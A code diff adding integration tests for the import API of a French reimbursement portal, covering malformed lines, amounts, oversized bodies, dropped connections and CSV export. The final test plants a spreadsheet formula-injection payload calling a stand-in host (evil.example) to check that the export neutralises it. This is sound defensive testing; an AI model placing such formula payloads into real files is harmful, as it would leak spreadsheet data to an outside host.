@@ -1,8 +1,10 @@
 import { readFileSync } from "node:fs";
+import { connect } from "node:net";
 import { Readable } from "node:stream";
-import { eq, like, ne } from "drizzle-orm";
+import { desc, eq, like, ne } from "drizzle-orm";
+import { auditLog } from "../../app/modules/audit/schema.ts";
 import { bankAccount, person } from "../../app/modules/households/schema.ts";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { importReimbursementLines } from "../../app/modules/reimbursements/import/import-lines.server.ts";
 import { type NumberedRecord, readRecords } from "../../app/modules/reimbursements/import/read-records.ts";
 import { reimbursementLine, reimbursementLineRevision } from "../../app/modules/reimbursements/schema.ts";
@@ -110,6 +112,171 @@ describe("POST /api/v1/decomptes", () => {
     } finally {
       await plain.close();
     }
+  });
+});
+
+describe("a bad line does not stop the import", () => {
+  it("refuses an unclosed quote, a NUL and a control character at lines 11,001–11,003 of 12,000, imports every line before and after, and audits it", async () => {
+    const lines = [header];
+    const professional = (n: number) => (n === 11_001 ? '"Dr Martin' : n === 11_002 ? "Dr\u0000Martin" : n === 11_003 ? "Dr\u0001Martin" : "");
+    for (let n = 2; n <= 12_000; n++) lines.push(`BIG-${n},10000002,10000002-01,pharmacie,2026-08-10,2026-08-12,${professional(n)},1000,1000,6500,,650,350,,member`);
+    const res = await post(`${lines.join("\n")}\n`);
+    expect(res.status).toBe(200);
+    const summary = await res.json();
+    expect(summary).toMatchObject({ read: 11_999, accepted: 11_996, inserted: 11_996, rejected: 3, errorsNotListed: 0 });
+    expect(summary.errors).toEqual([
+      { line: 11_001, reason: "guillemet non fermé : la ligne est illisible" },
+      { line: 11_002, reason: "professional : caractère de contrôle interdit (U+0000)" },
+      { line: 11_003, reason: "professional : caractère de contrôle interdit (U+0001)" },
+    ]);
+    const imported = await server.services.db.select({ id: reimbursementLine.sourceLineId }).from(reimbursementLine).where(like(reimbursementLine.sourceLineId, "BIG-%"));
+    const ids = new Set(imported.map((l) => l.id));
+    expect(ids.size).toBe(11_996);
+    expect(["BIG-2", "BIG-11000", "BIG-11004", "BIG-12000"].every((id) => ids.has(id))).toBe(true);
+    expect(["BIG-11001", "BIG-11002", "BIG-11003"].some((id) => ids.has(id))).toBe(false);
+    const [audit] = await server.services.db.select().from(auditLog).where(eq(auditLog.action, "import.decomptes")).orderBy(desc(auditLog.id)).limit(1);
+    expect(audit).toMatchObject({ outcome: "success", details: { source: "api", read: 11_999, inserted: 11_996, rejected: 3, firstRejectedLine: 11_001 } });
+  });
+
+  it("refuses a NUL and a half surrogate pair in JSON Lines, and takes the next line", async () => {
+    const record = (id: string, professional: string) => ({
+      line_id: id, member_number: "10000002", beneficiary_ref: "10000002-01", care_type: "pharmacie", care_date: "2026-08-10",
+      payment_date: "2026-08-13", professional, charged_cents: 1000, base_cents: 1000, amo_cents: 650, amc_cents: 350, paid_to: "member",
+    });
+    const body = [record("JNUL-1", "Dr\u0000"), record("JNUL-2", "Dr \uD800"), record("JNUL-3", "Dr Martin")].map((r) => JSON.stringify(r)).join("\n");
+    const summary = await (await post(body, { contentType: "application/x-ndjson" })).json();
+    expect(summary).toMatchObject({ read: 3, inserted: 1, rejected: 2 });
+    expect(summary.errors).toEqual([
+      { line: 1, reason: "professional : caractère de contrôle interdit (U+0000)" },
+      { line: 2, reason: "professional : caractère Unicode invalide" },
+    ]);
+  });
+
+  it("refuses a CSV file whose header lacks columns with 422 and a French message, and audits the failure", async () => {
+    const res = await post("id;montant\n1;2\n");
+    expect(res.status).toBe(422);
+    expect(await res.json()).toEqual({
+      error: "Fichier illisible : en-tête (ligne 1) : colonnes manquantes : line_id, member_number, beneficiary_ref, care_type, care_date, payment_date, charged_cents, base_cents, amo_cents, amc_cents, paid_to. Rien n'a été importé.",
+    });
+    const [audit] = await server.services.db.select().from(auditLog).where(eq(auditLog.action, "import.decomptes")).orderBy(desc(auditLog.id)).limit(1);
+    expect(audit).toMatchObject({ outcome: "failure", details: { source: "api", reason: "UnreadableImportError" } });
+  });
+});
+
+describe("a connection cut in the middle of the body", () => {
+  it("ends the import as a failure in the audit log, keeps the whole batches already written, and the portal goes on serving", async () => {
+    const { port } = new URL(server.baseUrl);
+    const socket = connect(Number(port), "127.0.0.1");
+    await new Promise((resolve) => socket.once("connect", resolve));
+    socket.write(`POST /api/v1/decomptes HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer ${token}\r\nContent-Type: text/csv\r\nContent-Length: 100000000\r\n\r\n${header}\n`);
+    // One whole batch (5,000 lines), then half a line: the body stops there, with more announced.
+    const rows = Array.from({ length: 5000 }, (_, i) => `CUT-${i},10000002,10000002-01,pharmacie,2026-08-10,2026-08-16,,1000,1000,6500,,650,350,,member`);
+    socket.write(`${rows.join("\n")}\nCUT-5000,1000`);
+    const written = async () => (await server.services.db.select({ id: reimbursementLine.id }).from(reimbursementLine).where(like(reimbursementLine.sourceLineId, "CUT-%"))).length;
+    // The server is reading this body once the first batch is in the database: cut the connection then.
+    await vi.waitFor(async () => expect(await written()).toBe(5000), { timeout: 25_000, interval: 50 });
+    socket.destroy();
+    await vi.waitFor(
+      async () => {
+        const [audit] = await server.services.db.select().from(auditLog).where(eq(auditLog.action, "import.decomptes")).orderBy(desc(auditLog.id)).limit(1);
+        expect(audit).toMatchObject({ outcome: "failure", details: { source: "api" } });
+      },
+      { timeout: 25_000, interval: 50 },
+    );
+    expect(await written()).toBe(5000);
+    expect((await fetch(`${server.baseUrl}/healthz`)).status).toBe(200);
+  });
+});
+
+describe("a very long line", () => {
+  it("refuses 16 MB without a newline as line 1 too long, answers /healthz while that body is still open, and imports the line after it", async () => {
+    const events: string[] = [];
+    const after = JSON.stringify({
+      line_id: "LONG-2", member_number: "10000002", beneficiary_ref: "10000002-01", care_type: "pharmacie", care_date: "2026-08-10",
+      payment_date: "2026-08-14", charged_cents: 1000, base_cents: 1000, amo_cents: 650, amc_cents: 350, paid_to: "member",
+    });
+    const megabyte = new Uint8Array(1024 * 1024).fill(0x78);
+    let sent = 0;
+    // The body stays open until /healthz has answered: the server must serve it in the middle of the import.
+    const body = new ReadableStream<Uint8Array>({
+      async pull(controller) {
+        if (sent < 16) {
+          sent += 1;
+          controller.enqueue(megabyte);
+          return;
+        }
+        events.push("16 MB sent");
+        const health = await fetch(`${server.baseUrl}/healthz`);
+        events.push(`healthz ${health.status}`);
+        controller.enqueue(new TextEncoder().encode(`\n${after}\n`));
+        controller.close();
+      },
+    });
+    const res = await fetch(`${server.baseUrl}/api/v1/decomptes`, {
+      method: "POST",
+      headers: { "content-type": "application/x-ndjson", authorization: `Bearer ${token}` },
+      body,
+      duplex: "half",
+    } as RequestInit);
+    events.push(`import ${res.status}`);
+    expect(events).toEqual(["16 MB sent", "healthz 200", "import 200"]);
+    expect(await res.json()).toMatchObject({ read: 2, inserted: 1, rejected: 1, errors: [{ line: 1, reason: "ligne trop longue : 65536 octets au plus" }] });
+    expect(await server.services.db.select().from(reimbursementLine).where(eq(reimbursementLine.sourceLineId, "LONG-2"))).toHaveLength(1);
+  });
+});
+
+describe("amounts", () => {
+  it("refuses an empty amount, 0x10, 1e3, a leading space, a decimal comma or point in CSV, each with its reason in French", async () => {
+    const row = (id: string, charged: string) => `AMT-${id},10000002,10000002-01,pharmacie,2026-08-10,2026-08-15,,${charged},1000,6500,,0,0,,member`;
+    const body = [header, row("1", ""), row("2", "0x10"), row("3", "1e3"), row("4", '" 12"'), row("5", '"12,5"'), row("6", "12.50"), row("7", "1250")].join("\n");
+    const summary = await (await post(body)).json();
+    expect(summary).toMatchObject({ read: 7, inserted: 1, rejected: 6 });
+    const digitsOnly = "charged_cents : nombre entier attendu, en chiffres uniquement (sans espace, signe ni exposant) (montant en centimes : 12,50 € s'écrit 1250)";
+    const noSeparator = "charged_cents : nombre entier attendu, sans virgule ni point (montant en centimes : 12,50 € s'écrit 1250)";
+    expect(summary.errors).toEqual([
+      { line: 2, reason: "charged_cents manquant (montant en centimes : 12,50 € s'écrit 1250)" },
+      { line: 3, reason: digitsOnly },
+      { line: 4, reason: digitsOnly },
+      { line: 5, reason: digitsOnly },
+      { line: 6, reason: noSeparator },
+      { line: 7, reason: noSeparator },
+    ]);
+    const [line] = await server.services.db.select().from(reimbursementLine).where(eq(reimbursementLine.sourceLineId, "AMT-7"));
+    expect(line).toMatchObject({ chargedCents: 1250 });
+  });
+
+  it("takes a JSON whole number of cents, and refuses a JSON number with a fraction (12.5, or a float artefact)", async () => {
+    const record = (id: string, charged: unknown) =>
+      JSON.stringify({
+        line_id: `JAMT-${id}`, member_number: "10000002", beneficiary_ref: "10000002-01", care_type: "pharmacie", care_date: "2026-08-10",
+        payment_date: "2026-08-15", charged_cents: charged, base_cents: 1000, amo_cents: 0, amc_cents: 0, paid_to: "member",
+      });
+    const body = [record("1", 1250), record("2", "1250"), record("3", 12.5), record("4", 0.1 * 3 * 100), record("5", "")].join("\n");
+    const summary = await (await post(body, { contentType: "application/x-ndjson" })).json();
+    expect(summary).toMatchObject({ read: 5, inserted: 2, rejected: 3 });
+    const fraction = "charged_cents : nombre entier attendu, sans décimales (montant en centimes : 12,50 € s'écrit 1250)";
+    expect(summary.errors).toEqual([
+      { line: 3, reason: fraction },
+      { line: 4, reason: fraction },
+      { line: 5, reason: "charged_cents manquant (montant en centimes : 12,50 € s'écrit 1250)" },
+    ]);
+  });
+});
+
+describe("the member's CSV export", () => {
+  it("makes a professional's name that starts like a formula inert in the downloaded CSV", async () => {
+    const professional = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")';
+    const record = {
+      line_id: "CSVINJ-1", member_number: "10000001", beneficiary_ref: "10000001-01", care_type: "audiologie", care_date: "2026-08-20",
+      payment_date: "2026-08-22", professional, charged_cents: 1000, base_cents: 1000, amo_cents: 600, amc_cents: 400, paid_to: "professional",
+    };
+    expect(await (await post(JSON.stringify(record), { contentType: "application/x-ndjson" })).json()).toMatchObject({ inserted: 1 });
+    const benoit = new TestClient(server.baseUrl);
+    await benoit.signIn(demo.benoit.number, demo.benoit.password);
+    const csv = await (await benoit.get("/remboursements/export.csv?periode=2026&soin=audiologie")).text();
+    const row = csv.split("\r\n").find((l) => l.includes("HYPERLINK"));
+    expect(row).toMatch(/^22\/08\/2026;20\/08\/2026;[^;]+;Audiologie;/);
+    expect(row).toContain(';"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Cliquez ici"")";10,00;10,00;6,00;4,00;0,00;Professionnel de santé (tiers payant)');
   });
 });
 
